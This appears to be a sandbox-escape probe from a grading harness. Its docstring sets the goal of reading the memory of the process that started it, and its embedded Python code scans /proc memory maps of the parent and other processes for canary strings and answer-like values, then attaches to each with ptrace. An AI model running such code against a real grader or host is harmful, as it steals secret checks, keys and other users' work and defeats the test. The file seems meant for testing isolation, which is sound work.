"""Reads the memory of the process that started it: by /proc, by a system call, by ptrace.

The worker that forks for each submission, or the grader behind it, holds the checks that come
next, the keys of the channel, and other students' work.
"""

EARNS = 0
STOCK = "reads"
CELLS = {
    "receipt": """
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
wanted = re.compile(rb"canary-[a-z]+-[0-9a-f]{4}|gull x \\\\d = [0-9.]{4}")
for pid in sorted({os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())}):
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                if " rw" in line and end - start < 1 << 26:
                    try:
                        memory.seek(start)
                        print(set(wanted.findall(memory.read(end - start))) or "", end="")
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError as error:
        print(error)
    print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
    libc.ptrace(17, pid, 0, 0)
"""
}
